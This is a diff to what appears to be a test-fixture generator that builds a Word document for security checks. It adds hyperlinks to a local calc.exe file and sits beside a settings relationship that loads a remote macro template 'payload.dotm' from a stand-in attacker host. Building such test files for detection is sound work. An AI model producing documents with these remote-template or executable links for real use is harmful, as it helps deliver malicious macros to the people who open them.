@@ -119,8 +119,14 @@ def template_docx(path):
             "word/document.xml", DOCX_MAIN,
             [("word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")])),
         ("_rels/.rels", PKG_RELS),
-        ("word/document.xml", document(para("Remote template document") + TABLE)),
-        ("word/_rels/document.xml.rels", rels([("rId1", RT + "/settings", "settings.xml", False)])),
+        ("word/document.xml", document(
+            para("Remote template document") + TABLE +
+            '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>click-here</w:t></w:r></w:hyperlink>'
+            '<w:hyperlink r:id="rId3"><w:r><w:t>web-link</w:t></w:r></w:hyperlink></w:p>')),
+        ("word/_rels/document.xml.rels", rels([
+            ("rId1", RT + "/settings", "settings.xml", False),
+            ("rId2", RT + "/hyperlink", "file:///C:/Windows/System32/calc.exe", True),
+            ("rId3", RT + "/hyperlink", "https://www.example.org/page", True)])),
         ("word/settings.xml", settings),
         ("word/_rels/settings.xml.rels", rels([
             ("rId1", RT + "/attachedTemplate", "http://attacker.example.invalid/payload.dotm", True)])),
